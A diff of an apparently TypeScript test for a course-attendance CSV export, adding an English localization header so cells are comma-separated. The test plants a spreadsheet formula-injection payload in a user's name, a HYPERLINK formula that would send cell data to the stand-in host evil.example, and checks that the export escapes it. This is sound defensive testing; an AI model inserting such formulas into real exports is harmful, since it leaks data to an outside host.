@@ -563,7 +563,8 @@ describe('viewing analytics', () => {
     const owner = await t.session();
     const evil = await t.session({ firstName: '=HYPERLINK("https://evil.example/?x="&A1,"Click")', lastName: '-2+3' });
     const id = await watchable({ title: `Formel ${token}`, startOffset: DAY, userId: owner.user.id }, evil.user.id);
-    const csv = await t.http.get(`/api/my/courses/${id}/attendance.csv`).set('Authorization', `Bearer ${owner.accessToken}`);
+    // English: commas between the cells (a Norwegian reader gets semicolons, common/csv).
+    const csv = await t.http.get(`/api/my/courses/${id}/attendance.csv`).set('Authorization', `Bearer ${owner.accessToken}`).set('X-localization', 'en');
     const lines = csv.text.replace(/^\uFEFF/, '').trim().split('\n');
     expect(lines[1]!.startsWith(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"") -2+3",`)).toBe(true);
     expect(lines[1]!.endsWith(',0,0')).toBe(true);
